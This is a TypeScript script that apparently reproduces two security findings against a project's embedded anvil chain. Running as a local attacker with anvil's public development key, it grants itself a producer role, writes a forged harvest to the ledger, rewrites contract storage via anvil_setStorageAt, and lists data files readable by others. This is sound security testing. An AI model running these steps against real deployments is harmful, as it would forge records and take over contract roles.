/**
 * Findings 6 and 7 of issue 19, measured as a local attacker would: `npm start`'s own process on a
 * fresh data folder, then another process on the same machine holding nothing but anvil's public
 * development key (in every Foundry tutorial).
 *
 *   node -r ts-node/register/transpile-only scripts/attack-embedded-chain.ts
 *
 * Prints, for finding 6: whether the ledger's admin is that public key, which of the chain's
 * JSON-RPC endpoints a local process reaches (TCP on CHAIN_PORT; the Unix socket, for this user
 * and, when run as root, for another user), how many unlocked accounts it sees, and whether the
 * public key can grant itself a role, write a harvest straight to the chain, and call
 * anvil_setStorageAt. For finding 7: the files and folders under DATA_DIR that others may read,
 * after a first run, and after a restart of a folder whose files were left 0644.
 * Uses only what every version has (the gateway process, ethers), so it runs on old code too.
 */
import { spawn } from "node:child_process";
import { chmodSync, existsSync, lstatSync, mkdtempSync, readdirSync, readFileSync, rmSync } from "node:fs";
import { tmpdir } from "node:os";
import path from "node:path";
import { Contract, id, IpcSocketProvider, JsonRpcProvider, Wallet, ZeroAddress, ZeroHash, type JsonRpcApiProvider } from "ethers";
import { ANVIL_DEV_KEY } from "../server/chain/anvil";
import { loadLedgerArtifact } from "../server/chain/ledger-artifact";
import { ledgerDomain, signEvent } from "../server/chain/typed-data";
import { freePort, spawnGateway } from "./lib/processes";
import * as payload from "./lib/payloads";

const PUBLIC_ADMIN = new Wallet(ANVIL_DEV_KEY).address;

/** Paths under `dir` (itself included) that group or others may read, write or enter, with their modes. */
function openToOthers(dir: string): string[] {
  const open: string[] = [];
  const visit = (target: string) => {
    const stat = lstatSync(target);
    if (stat.isSymbolicLink()) return;
    if ((stat.mode & 0o077) !== 0) open.push(`${path.relative(dir, target) || "."} ${(stat.mode & 0o777).toString(8)}`);
    if (stat.isDirectory()) for (const name of readdirSync(target)) visit(path.join(target, name));
  };
  visit(dir);
  return open;
}

function loosen(dir: string): void {
  chmodSync(dir, 0o755);
  for (const name of readdirSync(dir)) {
    const target = path.join(dir, name);
    const stat = lstatSync(target);
    if (stat.isDirectory()) loosen(target);
    else if (stat.isFile()) chmodSync(target, 0o644);
  }
}

async function answersTcp(port: number): Promise<boolean> {
  try {
    const response = await fetch(`http://127.0.0.1:${port}`, {
      method: "POST",
      headers: { "content-type": "application/json" },
      body: JSON.stringify({ jsonrpc: "2.0", id: 1, method: "eth_chainId", params: [] }),
      signal: AbortSignal.timeout(2_000),
    });
    return response.ok;
  } catch {
    return false;
  }
}

/** What another local user (nobody) gets on the chain's socket and TCP port; only root can try it. */
async function asNobody(socket: string, port: number): Promise<string> {
  if (process.getuid?.() !== 0) return "not measured (run as root to try another user)";
  const script = `const net = require("net");
    const t = (o) => new Promise((r) => { const s = net.connect(o); s.on("connect", () => { s.destroy(); r("reached"); }); s.on("error", (e) => r(e.code)); });
    (async () => console.log("socket " + (${JSON.stringify(existsSync(socket))} ? await t({ path: ${JSON.stringify(socket)} }) : "absent") + ", TCP " + await t({ host: "127.0.0.1", port: ${port} })))();`;
  const child = spawn(process.execPath, ["-e", script], { uid: 65534, gid: 65534, cwd: "/", stdio: ["ignore", "pipe", "pipe"] });
  let out = "";
  child.stdout.on("data", (c) => (out += c));
  child.stderr.on("data", (c) => (out += c));
  await new Promise((resolve) => child.once("exit", resolve));
  return out.trim();
}

const short = (error: unknown) => String((error as { shortMessage?: string }).shortMessage ?? (error as Error).message ?? error).slice(0, 90);

async function main(): Promise<void> {
  const dataDir = mkdtempSync(path.join(tmpdir(), "attack-embedded-"));
  const port = await freePort();
  const chainPort = await freePort();
  let gateway = await spawnGateway({ port, chainPort, dataDir });
  const rows: Array<[string, string]> = [];
  const providers: JsonRpcApiProvider[] = [];
  try {
    const deployment = JSON.parse(readFileSync(path.join(dataDir, "deployments", "31337.json"), "utf8")) as { address: string; admin: string };
    rows.push(["6  ledger admin is anvil's public key 0xf39F…2266", deployment.admin === PUBLIC_ADMIN ? "yes" : `no (${deployment.admin})`]);

    const tcp = await answersTcp(chainPort);
    rows.push(["6  chain JSON-RPC on TCP 127.0.0.1:CHAIN_PORT, for any local process", tcp ? "answers" : "nothing listens"]);
    const socket = path.join(dataDir, "anvil.ipc");
    rows.push(["6  chain's Unix socket (DATA_DIR/anvil.ipc)", existsSync(socket) ? `mode ${(lstatSync(socket).mode & 0o777).toString(8)}, folder ${(lstatSync(dataDir).mode & 0o777).toString(8)}` : "none"]);
    rows.push(["6  another local user (nobody) tries socket and TCP", await asNobody(socket, chainPort)]);

    // The attacker's way in: TCP if it answers; else, at best, the socket (the gateway's own user).
    let via = "TCP";
    let provider: JsonRpcApiProvider | undefined;
    if (tcp) provider = new JsonRpcProvider(`http://127.0.0.1:${chainPort}`, 31337, { staticNetwork: true, cacheTimeout: -1, pollingInterval: 50 });
    else if (existsSync(socket)) {
      via = "the gateway's own socket (its user only)";
      provider = new IpcSocketProvider(socket, 31337, { staticNetwork: true, cacheTimeout: -1, pollingInterval: 50 });
    }
    if (!provider) {
      rows.push(["6  public key grants itself PRODUCER_ROLE", "no endpoint reachable"]);
    } else {
      providers.push(provider);
      const accounts = (await provider.send("eth_accounts", [])) as string[];
      rows.push([`6  unlocked accounts (eth_accounts) via ${via}`, String(accounts.length)]);
      const attacker = new Wallet(ANVIL_DEV_KEY, provider);
      const ledger = new Contract(deployment.address, loadLedgerArtifact().abi, attacker);
      let granted = false;
      try {
        await (await ledger.grantRole(id("PRODUCER_ROLE"), PUBLIC_ADMIN)).wait();
        granted = await ledger.hasRole(id("PRODUCER_ROLE"), PUBLIC_ADMIN);
        rows.push([`6  public key grants itself PRODUCER_ROLE via ${via}`, granted ? "granted" : "not granted"]);
      } catch (error) {
        rows.push([`6  public key grants itself PRODUCER_ROLE via ${via}`, `refused: ${short(error)}`]);
      }
      try {
        const event = { batchId: payload.harvestedBatchId("ATTACK-6"), kind: 0, prevHead: ZeroHash, dataHash: id("forged harvest"), inputs: [] as string[], counterparty: ZeroAddress };
        const signed = await signEvent(attacker, ledgerDomain(31337, deployment.address), event);
        // A harvest creates its batch: no custody proofs (a ledger from before on-chain custody takes none at all).
        const proofs = ledger.interface.getFunction("record")!.inputs.length > 2 ? [[], []] : [];
        const receipt = await (await ledger.record(signed, [], ...proofs)).wait();
        rows.push([`6  harvest written straight to the chain with the public key via ${via}`, `recorded in block ${receipt!.blockNumber}`]);
      } catch (error) {
        rows.push([`6  harvest written straight to the chain with the public key via ${via}`, `refused: ${short(error)}`]);
      }
      try {
        await provider.send("anvil_setStorageAt", [deployment.address, ZeroHash, ZeroHash]);
        rows.push([`6  anvil_setStorageAt via ${via}`, "answered (state rewritten)"]);
      } catch (error) {
        rows.push([`6  anvil_setStorageAt via ${via}`, `refused: ${short(error)}`]);
      }
    }

    const open = openToOthers(dataDir);
    rows.push(["7  paths under DATA_DIR open to group/others, first run", `${open.length}: ${open.join(", ")}`]);
    for (const p of providers) p.destroy();
    providers.length = 0;
    await gateway.stop();
    loosen(dataDir);
    gateway = await spawnGateway({ port, chainPort, dataDir });
    const after = openToOthers(dataDir);
    rows.push(["7  …after a restart of the folder with 0644/0755 modes", `${after.length}: ${after.join(", ")}`]);
  } finally {
    for (const p of providers) p.destroy();
    await gateway.stop().catch(() => undefined);
    rmSync(dataDir, { recursive: true, force: true });
  }
  const width = Math.max(...rows.map(([k]) => k.length));
  for (const [key, value] of rows) console.log(`${key.padEnd(width)}  ${value}`);
}

main().catch((error) => {
  console.error(error);
  process.exit(1);
});
